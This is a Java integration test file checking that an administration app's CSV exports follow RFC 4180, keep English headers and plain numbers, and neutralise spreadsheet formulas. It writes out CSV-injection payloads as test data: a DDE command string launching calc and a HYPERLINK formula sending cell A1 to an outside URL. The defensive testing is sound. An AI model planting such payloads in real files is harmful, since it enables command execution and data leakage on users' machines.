package org.confederatio.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * Issue 13, item 4: every CSV export is RFC 4180, and a cell a spreadsheet would run as a formula
 * comes out as text, to every role; the contract files keep English headers and plain numbers in
 * every language.
 */
class CsvExportsIT {

  private static final int LAST_YEAR = ServerClock.YEAR - 1;

  private static List<CSVRecord> records(String csv) throws IOException {
    try (CSVParser parser =
        CSVParser.parse(
            new StringReader(csv), CSVFormat.RFC4180.builder().setCommentMarker('#').get())) {
      return parser.getRecords();
    }
  }

  private static String get(String user, String path, String accept) throws Exception {
    var response = FoundationReportsApiIT.fetch(user, path, accept);
    assertEquals(200, response.statusCode(), path);
    return new String(response.body(), StandardCharsets.UTF_8);
  }

  /** A finding of Lacus of this run's own: a confederal function of local scope (S2). */
  private static String finding() {
    String function = "f-" + UUID.randomUUID().toString().substring(0, 8);
    var created =
        Api.as("admin")
            .postJson(
                "/api/cantons/LAC/functions",
                """
                {"id":"%s","name":"=cmd|' /C calc'!A0","level":"CONFEDERAL","scope":"LOCAL",
                 "coercive":false,"delegatedBy":["LAC"]}"""
                    .formatted(function));
    assertEquals(201, created.statusCode(), created.body());
    return "LAC:" + function + ":SHOULD_BE_CANTONAL";
  }

  @Test
  void aJustificationWrittenAsAFormulaComesOutAsTextToEveryRole() throws Exception {
    String finding = finding();
    String formula = "=HYPERLINK(\"https://example.org/?q=\"&A1, \"Click\")";
    var justified =
        Api.as("policy")
            .postJson(
                "/api/findings/" + finding + "/justification",
                "{\"reason\":\""
                    + formula.replace("\"", "\\\"")
                    + "\",\"until\":\""
                    + ServerClock.TODAY.plusYears(1)
                    + "\"}");
    assertEquals(200, justified.statusCode(), justified.body());

    for (String user : List.of("citizen", "foundation", "policy", "admin")) {
      for (String csv :
          List.of(
              get(user, "/api/cantons/LAC/subsidiarity-review", "text/csv"),
              get(user, "/api/cantons/LAC/subsidiarity-files/review.csv", "text/csv"))) {
        CSVRecord row =
            records(csv).stream()
                .filter(r -> r.get(0).equals(finding))
                .findFirst()
                .orElseThrow(() -> new AssertionError(finding + " in " + csv));
        assertEquals("'" + formula, row.get(6), user); // the justification column
        for (CSVRecord r : records(csv)) {
          for (String cell : r) {
            assertFalse(
                !cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0,
                "a live formula for " + user + ": " + cell);
          }
        }
      }
    }
  }

  @Test
  void theContractFilesKeepEnglishHeadersAndPlainNumbersInEveryLanguage() throws Exception {
    for (String language : List.of("en", "es", "eo")) {
      var a =
          Api.as("clerk")
              .getWithLanguage(
                  "/api/cantons/LAC/allocation-inputs/" + LAST_YEAR + "/A.csv", language);
      var d =
          Api.as("clerk")
              .getWithLanguage(
                  "/api/cantons/LAC/allocation-inputs/" + LAST_YEAR + "/D.csv", language);
      assertEquals(200, a.statusCode(), a.body());
      assertTrue(a.body().startsWith("taxpayer,tax\r\n"), a.body().substring(0, 40));
      assertTrue(d.body().startsWith("taxpayer,recipient,share_bp,made_on\r\n"));
      List<CSVRecord> taxes = records(a.body());
      assertTrue(taxes.size() > 1, "the demo canton has assessments");
      for (CSVRecord row : taxes.subList(1, taxes.size())) {
        assertTrue(row.get(1).matches("[0-9]+\\.[0-9]{2}"), row.toString());
      }
      List<CSVRecord> shares = records(d.body());
      for (CSVRecord row : shares.subList(1, shares.size())) {
        assertTrue(row.get(2).matches("[0-9]+"), row.toString());
        assertTrue(row.get(3).matches("[0-9]{4}-[0-9]{2}-[0-9]{2}"), row.toString());
      }
    }
  }

  @Test
  void aRollDownloadsAsRfc4180() throws Exception {
    var frozen =
        Api.as("clerk")
            .postJson(
                "/api/cantons/LAC/elections",
                "{\"name\":\"Csv, \\\"quoted\\\" "
                    + UUID.randomUUID()
                    + "\",\"referenceDate\":\""
                    + ServerClock.TODAY
                    + "\"}");
    assertEquals(201, frozen.statusCode(), frozen.body());
    long id = Api.json(frozen).getJsonNumber("id").longValue();

    String csv = Api.as("clerk").get("/api/elections/" + id + "/roll.csv").body();

    assertTrue(csv.startsWith("person_id,reason,date\r\n"), csv.substring(0, 30));
    List<CSVRecord> rows = records(csv);
    assertTrue(rows.size() > 1);
    rows.forEach(r -> assertEquals(3, r.size(), r.toString()));
  }
}
